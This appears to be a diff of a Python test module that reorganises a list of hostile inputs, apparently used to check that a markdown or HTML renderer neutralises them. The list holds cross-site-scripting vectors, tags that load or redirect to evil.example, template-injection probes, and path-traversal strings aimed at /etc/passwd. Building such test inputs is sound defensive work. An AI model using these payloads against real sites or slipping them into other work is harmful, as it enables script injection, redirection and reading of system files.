@@ -6,7 +6,7 @@ from random import Random
 from typing import Any
 
 MARK = "window.__ran=1"
-PAYLOADS = (
+MARKUP = (
     f"<script>{MARK}</script>",
     f"<img src=x onerror={MARK}>",
     f'"><svg onload="{MARK}">',
@@ -15,24 +15,32 @@ PAYLOADS = (
     f"a` [Free](javascript:{MARK}) `b",
     f"![x](data:text/html,{MARK})",
     f"<javascript:{MARK}>",
+    "<base href=//evil.example>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<!-- swallowed",
+    "--> ]]> </noscript></textarea></title></table></script>",
+    "{{ 7*7 }} {% raw %} {# c #}",
+    f"word {{: onclick={MARK} }} {{ .lurk onclick={MARK} }}",
+    "a](lurk:nope).png [b](lurk:nope)",
+    "# 1. - | pipe | **bold** _it_ ~~del~~ https://evil.example www.evil.example a@evil.example",
+    "```lurk",
+    "<!-- lurk -->",
+    "&lt;b&gt; &amp; \\<b>",
+)
+"""Markup, links and templates that would run code, load something, or swallow what follows."""
+PAYLOADS = (
+    *MARKUP,
     f"[x]: javascript:{MARK} 'title'",
     f"<a href='java&#10;script:{MARK}'>b</a>",
     f"<a href=' \tvbscript:{MARK}'>b</a>",
-    "<base href=//evil.example>",
-    '<meta http-equiv="refresh" content="0;url=//evil.example">',
     "<iframe srcdoc='<script>1</script>'></iframe>",
     "<form action=//evil.example><input autofocus onfocus=x>",
     "<style>*{background:url(//evil.example)}</style>",
     "<link rel=stylesheet href=//evil.example>",
     f"<math><mtext></mtext><mglyph><style><img src onerror={MARK}></style></mglyph></math>",
-    "<!-- swallowed",
-    "--> ]]> </noscript></textarea></title></table></script>",
     "<![CDATA[", "<?php ?>", "<lurk-gallery data-model=x>",
-    "{{ 7*7 }} {% raw %} {# c #}", "${7*7} #{7*7} <%= 7 %>",
-    f"word {{: onclick={MARK} }} {{ .lurk onclick={MARK} }}",
-    "a](lurk:nope).png [b](lurk:nope)",
-    "# 1. - | pipe | **bold** _it_ ~~del~~ https://evil.example www.evil.example a@evil.example",
-    "```lurk", "~~~", "<!-- lurk -->", "&lt;b&gt; &amp; \\<b>", "*[HTML]: x", "[^1]: note", "[TOC]", "!!! note",
+    "${7*7} #{7*7} <%= 7 %>",
+    "~~~", "*[HTML]: x", "[^1]: note", "[TOC]", "!!! note",
     "--8<-- 'x'",
     "../../../escaped", "/etc/passwd", "C:\\Windows", "con", "aux.0", ".hidden", "index", "README.md", "results.json",
     "a/b", "a//b", "a\\b", "~root", "$HOME", "%2e%2e%2f", "lurk:small/features.0", "file:///etc/passwd",
